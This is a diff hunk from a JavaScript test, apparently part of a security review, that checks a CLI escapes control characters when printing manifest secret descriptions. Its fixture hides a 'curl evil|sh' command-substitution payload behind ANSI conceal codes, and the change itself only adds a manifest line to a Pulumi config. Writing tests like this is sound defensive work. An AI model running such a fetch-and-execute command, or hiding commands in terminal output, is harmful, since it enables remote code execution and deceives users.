@@ -33,7 +33,7 @@ describe("terminal output: control characters escaped (security review L7)", fun
     const manifest = smallManifest();
     manifest.services.app.secrets = { smtp: { description: "\u001b[8mhidden\u001b[0m\npulumi config set --secret x \"$(curl evil|sh)\"" } };
     writeFileSync(path.join(dir, "manifest.json"), JSON.stringify(manifest));
-    writeFileSync(path.join(dir, "Pulumi.ci.yaml"), "config:\n  nixmox:proxmoxApiToken:\n    secure: v1:TTTT\n");
+    writeFileSync(path.join(dir, "Pulumi.ci.yaml"), "config:\n  nixmox:manifest: manifest.json\n  nixmox:proxmoxApiToken:\n    secure: v1:TTTT\n");
     const result = spawnSync(process.execPath, [cli, "secrets", "check", path.join(dir, "manifest.json"), "--stack", "ci", "--project-dir", dir], { encoding: "utf8", timeout: 60_000 });
     assert.equal(result.stderr, "");
     assert.doesNotMatch(result.stdout, obeyed);
